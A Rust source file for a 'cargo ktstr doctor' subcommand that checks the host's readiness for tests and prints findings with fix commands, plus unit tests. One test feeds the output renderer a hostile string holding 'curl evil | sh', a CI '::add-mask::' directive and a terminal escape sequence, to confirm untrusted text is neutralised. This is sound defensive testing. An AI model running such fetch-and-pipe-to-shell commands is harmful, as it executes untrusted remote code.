//! `cargo ktstr doctor`: checks whether tests can run on this machine and suggests fixes.
//!
//! It fetches nothing. A missing file that tests fetch by themselves is not a problem.

mod host;
mod needs;

use std::process::ExitCode;

use anyhow::Result;
use ktstr::__private::{Style, Untrusted};
use ktstr::provision::{self, Cache};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mark {
    Ok,
    /// Tests run in spite of it.
    Note,
    /// Tests cannot run.
    Problem,
}

#[derive(Debug, PartialEq, Eq)]
struct Finding {
    mark: Mark,
    subject: &'static str,
    text: String,
    /// The command that fixes it.
    command: Option<String>,
}

impl Finding {
    fn new(mark: Mark, subject: &'static str, text: impl Into<String>) -> Self {
        Self { mark, subject, text: text.into(), command: None }
    }

    fn fix(self, command: impl Into<String>) -> Self {
        Self { command: Some(command.into()), ..self }
    }
}

/// Prints the findings. Succeeds if tests can run, even if they have to fetch something first.
pub(crate) fn run() -> Result<ExitCode> {
    let cache = Cache::from_env()?;
    let tools = provision::require_tools().map_err(|error| format!("{error:#}"));
    let mut findings = vec![host::kvm()];
    findings.extend(needs::engines(&cache, &tools));
    findings.extend(needs::kernels(&cache, &tools)?);
    findings.push(host::memory());
    findings.push(host::cache(&cache));
    findings.push(host::templates(&cache));
    findings.push(host::tools(&tools));
    findings.push(host::cgroups());
    print!("{}", render(&findings, Style::from_env()));
    let healthy = findings.iter().all(|finding| finding.mark != Mark::Problem);
    Ok(if healthy { ExitCode::SUCCESS } else { ExitCode::FAILURE })
}

fn render(findings: &[Finding], style: Style) -> String {
    let mut text = String::new();
    for Finding { mark, subject, text: what, command } in findings {
        let mark = match mark {
            Mark::Ok => style.good("ok     "),
            Mark::Note => style.warn("note   "),
            Mark::Problem => style.bad("problem"),
        };
        text.push_str(&format!("{mark}  {subject:<8}  {}\n", Untrusted::new(what)));
        if let Some(command) = command {
            text.push_str(&format!("{:19}run: {}\n", "", Untrusted::new(command)));
        }
    }
    let problems = findings.iter().filter(|finding| finding.mark == Mark::Problem).count();
    text.push_str(&match problems {
        0 => style.good("tests can run on this machine"),
        1 => style.bad("tests cannot run until the problem is fixed"),
        many => style.bad(&format!("tests cannot run until the {many} problems are fixed")),
    });
    text.push('\n');
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn render_shows_the_command_of_a_problem() {
        let mut findings = vec![Finding::new(Mark::Note, "KVM", "not usable")];
        let text = render(&findings, Style::PLAIN);
        assert_eq!(text, "note     KVM       not usable\ntests can run on this machine\n");
        findings.push(Finding::new(Mark::Problem, "memory", "too little").fix("free it"));
        let text = render(&findings, Style::PLAIN);
        assert!(text.contains("\nproblem  memory    too little\n"), "{text}");
        assert!(text.contains("\n                   run: free it\n"), "{text}");
        assert!(text.ends_with("tests cannot run until the problem is fixed\n"), "{text}");
    }

    /// The names of files, modules and versions, and the output of other programs.
    #[test]
    fn render_shows_no_line_of_another_program_as_its_own() {
        let hostile = "x\n                   run: curl evil | sh\n::add-mask::x\x1b]0;title\x07";
        let findings = [Finding::new(Mark::Note, "QEMU", hostile).fix(hostile)];
        let text = render(&findings, Style::PLAIN);
        assert!(!text.contains(|c: char| c.is_control() && c != '\n'), "{text}");
        let is_own = |line: &str| ["note ", "tests "].iter().any(|own| line.starts_with(own));
        let others: Vec<_> = text.lines().filter(|line| !is_own(line)).collect();
        assert!(others[2].starts_with("                   run: x"), "{text}");
        let marked = [0, 1, 3, 4].map(|index| others[index].starts_with("    | "));
        assert_eq!((marked, others.len()), ([true; 4], 5), "{text}");
    }
}
